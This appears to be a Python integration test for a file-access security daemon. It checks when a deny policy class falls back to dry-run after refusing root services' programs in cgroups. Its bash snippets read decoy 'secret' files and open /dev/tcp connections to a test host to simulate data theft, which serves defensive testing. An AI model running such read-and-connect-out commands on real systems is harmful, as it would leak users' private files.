#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""In the first hour of a policy a class falls back to dry-run when it refuses something to the programs of three
services of root's; what thieves do in the cgroups of the same services does not count."""

import contextlib
import os
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../harness"))

import harness
import varlink
from cases import Scene, cases
from harness import kernel_version, program, touches
from net import HOST_V4
from tap import Skip, require, require_equal

CLASS, OTHER = "test-trial", "test-other"
SERVICES = 3
USER = 61300
# A service that PID 1 has: bash reads the file and connects by itself, and says what came of it.
SERVICE = """
( echo $BASHPID >"$1/cgroup.procs"
  while read -r path; do
      read -r line <"$path"
      if { : ; } 4<>/dev/tcp/%s/443; then echo sent; else echo refused; fi >&5
  done 0<>"$2" 5<>"$3" ) </dev/null >/dev/null 2>&1 &
echo $!
""" % HOST_V4


class Service:
    """It is there before barbwired, which then takes PID 1 for its parent, as it is that of systemd's services."""

    def __init__(self, net, directory, cgroup):
        self.cgroup = cgroup
        os.makedirs(cgroup)
        self.input, self.output = (f"{directory}/{cgroup.replace('/', '-')}.{end}" for end in ("in", "out"))
        os.mkfifo(self.input)
        os.mkfifo(self.output)
        result = net.run(["/bin/bash", "-c", SERVICE, "bash", cgroup, self.input, self.output])
        self.pid = int(result.stdout)
        self.results = os.fdopen(os.open(self.output, os.O_RDWR), "r")

    def send(self, path):
        with open(self.input, "wb") as out:
            out.write(path + b"\n")
        return self.results.readline().strip()

    def end(self):
        os.kill(self.pid, 9)
        self.results.close()
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            with contextlib.suppress(OSError):
                os.rmdir(self.cgroup)
                return


class Stage(Scene):
    def __init__(self, net, home):
        super().__init__(net, home)
        self.places = f"{os.fsdecode(home.root)}/trial"
        self.later = kernel_version() >= (5, 19)
        self.changes = 0
        self.write()

    def write(self):
        self.changes += 1
        self.write_policy(f"# change {self.changes}\n"
                          + harness.policy_class(CLASS, [f"{self.places}/a/**"], Action="deny")
                          + harness.policy_class(OTHER, [f"{self.places}/b/**"], Action="deny"))

    def load(self):
        self.write()
        require("policy reloaded" in self.bw.reload(), "reload")

    def decoy(self, which="a", owner=0):
        path, _ = self.home.decoy(os.path.join(os.fsencode(self.places), which.encode(),
                                               b"secret-%d" % time.monotonic_ns()))
        os.chown(path, owner, owner)
        return path

    def action(self, path):
        return self.bw.wait_alert(lambda a: touches(a, path), f"alert of {path}")["action"]

    def status(self):
        with varlink.Connection(self.socket) as client:
            return client.call("GetStatus")

    def require_fallen(self, *classes):
        self.bw.prove_delivered(self.net, self.home)
        status = self.status()
        require_equal(status["enforcement"]["fallen"], list(classes), "classes that fell back")
        said = [c for c in (CLASS, OTHER) if any(f"Class {c} has fallen back" in why for why in status["degraded"])]
        require_equal(said, list(classes), f"why it is degraded: {status['degraded']}")


def thieves(stage, services):
    """In the cgroup of each service: a program that it starts, and a user's file that its own program sends."""
    for service in services:
        path = stage.decoy()
        result = stage.net.run(["/bin/bash", "-c", 'echo $$ >"$0/cgroup.procs" && exec "$@"', service.cgroup,
                                program("technique-out-tcp"), "blocking", path, HOST_V4, "443"])
        require(result.returncode != 0, "the thief was not refused")
        require_equal(stage.action(path), "denied", "action")
        path = stage.decoy()
        by_bash = 'echo $$ >"$0/cgroup.procs"; read -r line <"$1"; : 4<>/dev/tcp/$2/443'
        result = stage.net.run(["/bin/bash", "-c", by_bash, service.cgroup, path, HOST_V4])
        require(result.returncode != 0, "bash was not refused")
        require_equal(stage.action(path), "denied", "action")
        path = stage.decoy(owner=USER)
        require_equal(service.send(path), "refused", "a user's file")
        require_equal(stage.action(path), "denied", "action")
    stage.require_fallen()


def sessions(stage, user):
    """What runs below a user's manager never counts, however many services that has."""
    for service in user:
        path = stage.decoy()
        require_equal(service.send(path), "refused", "a service of a user's manager")
        require_equal(stage.action(path), "denied", "action")
    stage.require_fallen()


def honest(stage, services):
    for service in (*services[:-1], *services[:-1]):
        require_equal(service.send(stage.decoy()), "refused", "two services, twice")
    stage.require_fallen()
    require_equal(services[-1].send(stage.decoy()), "refused", "the third service")
    state = stage.bw.wait(lambda: next((s for s in stage.bw.states if s["state"] == "fallback"), None),
                          harness.ALERT_TIMEOUT, "the state alert")
    require_equal((state["class"], state["services"]), (CLASS, [os.path.basename(s.cgroup) for s in services]), "it")
    stage.require_fallen(CLASS)
    path = stage.decoy()
    require_equal(services[0].send(path), "sent", "after the fallback")
    require_equal(stage.action(path), "would-deny", "action")


def others(stage):
    """A class that no service was refused is enforced."""
    path = stage.decoy("b")
    result = stage.net.run([program("technique-out-tcp"), "blocking", path, HOST_V4, "443"])
    require(result.returncode != 0, "the thief was not refused")
    require_equal(stage.action(path), "denied", "action")


def reloaded(stage, services):
    """The same policy once more changes nothing; another one is enforced."""
    require("policy reloaded" in stage.bw.reload(), "reload")
    require_equal(services[0].send(stage.decoy()), "sent", "the same policy")
    stage.require_fallen(CLASS)
    stage.load()
    stage.require_fallen()
    require_equal(services[0].send(stage.decoy()), "refused", "another policy")


def cgroup2():
    with open("/proc/mounts", encoding="ascii") as mounts:
        found = [line.split()[1] for line in mounts if line.split()[2] == "cgroup2"]
    if not found:
        raise Skip("no cgroup2 mount", environment=True)
    return found[0]


def play(t, net, home):
    stage = Stage(net, home)
    slices = f"{cgroup2()}/system.slice", f"{cgroup2()}/user.slice"
    made = [path for path in slices if not os.path.exists(path)]
    with contextlib.ExitStack() as stack:
        def start(path):
            sets = [Service(net, stage.directory, f"{path}/trial-{os.getpid()}-{i}.service") for i in range(SERVICES)]
            for service in sets:
                stack.callback(service.end)
            return sets

        for path in made:
            stack.callback(os.rmdir, path)
        services, user = start(slices[0]), start(slices[1])
        with open(f"/proc/{services[0].pid}/status", encoding="ascii") as status:
            if "PPid:\t1\n" not in status.read():
                raise Skip("an orphan is not adopted by PID 1", environment=True)
        with stage.bw:
            stage.bw.refuses = True
            t.case("thieves in the cgroups of three services", thieves, stage, services)
            t.case("services of a user's manager", sessions, stage, user)
            t.case("the programs of three services", honest, stage, services)
            t.case("another class is enforced", others, stage)
            t.case("a reload", reloaded, stage, services)
            t.case("ends without loss", ended, stage)


def ended(stage):
    stage.bw.stop()
    stage.bw.require_no_loss(harness.preemption_losses())


def main():
    with cases() as (t, net, home):
        t.setup("its services", play, t, net, home)


if __name__ == "__main__":
    main()
